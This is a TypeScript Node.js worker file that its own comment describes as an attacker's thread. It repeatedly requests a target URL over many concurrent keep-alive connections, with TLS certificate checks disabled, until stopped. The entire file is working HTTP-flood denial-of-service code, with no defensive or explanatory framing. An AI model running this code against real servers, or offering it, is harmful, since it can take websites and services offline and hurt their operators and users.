import { get as getHttp, Agent as HttpAgent } from 'node:http';
import { get as getHttps, Agent as HttpsAgent } from 'node:https';
import { workerData } from 'node:worker_threads';

/** The thread of an attacker that asks for a page again and again, many times at once, until it is ended. */
const { address, loops } = workerData as { readonly address: string; readonly loops: number };
const isSecure = address.startsWith('https:');
const options = { keepAlive: true, maxSockets: loops };
const agent = isSecure ? new HttpsAgent({ ...options, rejectUnauthorized: false }) : new HttpAgent(options);

function ask(): void {
  const request = (isSecure ? getHttps : getHttp)(address, { agent }, (response) => {
    response.resume();
    response.once('close', ask);
  });
  request.once('error', () => setTimeout(ask, 100));
}

for (let count = 0; count < loops; count += 1) ask();
